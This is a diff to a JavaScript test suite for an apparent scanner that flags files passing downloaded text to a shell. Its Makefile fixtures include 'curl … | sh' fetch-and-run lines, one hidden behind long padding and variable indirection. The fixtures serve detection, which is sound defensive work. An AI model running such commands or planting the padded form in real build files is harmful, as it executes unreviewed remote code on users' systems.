@@ -56,6 +56,13 @@ describe('files that hand some of their text to shells', () => {
     expect(judged(path, text)).toBe(`remote-code/${rule}`);
   });
 
+  it('are unread where names stand for more than is followed', () => {
+    const names = `S = sh\nG = curl -s\nA = ${'x'.repeat(16_000)}\n`;
+    expect(judged('x.mk', `${names}a:\n${'\techo $(A)\n'.repeat(400)}\t$(G) ${U} | $(S)`)).toBe(
+      'remote-code/unread-script',
+    );
+  });
+
   it.each([
     ['Makefile', `help:\n\t@echo "curl ${U} | sh"\nget:\n\tcurl -LsSf https://astral.sh/uv/install.sh | sh`],
     ['Makefile', `define HELP\ncurl ${U} | sh\nendef\nexport HELP\nhelp:\n\t@echo "$$HELP"`],
